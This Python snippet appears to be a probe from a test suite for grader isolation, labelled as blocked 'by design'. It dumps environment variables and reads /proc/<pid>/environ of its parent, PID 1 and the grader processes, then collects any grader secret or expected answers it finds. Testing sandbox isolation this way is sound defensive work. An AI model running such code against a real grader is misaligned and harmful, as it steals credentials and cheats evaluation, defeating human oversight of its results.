"""Reads the grader's environment variables.

Loot: passwords and tokens
Stopped by: design
"""

seen = repr(dict(os.environ))
for pid in ("self", str(os.getppid()), "1", str(GRADER), str(ZYGOTE)):
    seen += attempt(lambda: open(f"/proc/{pid}/environ").read()) or ""
if "GRADER_SECRET" in seen or "EXPECTED" in seen:
    loot(seen)
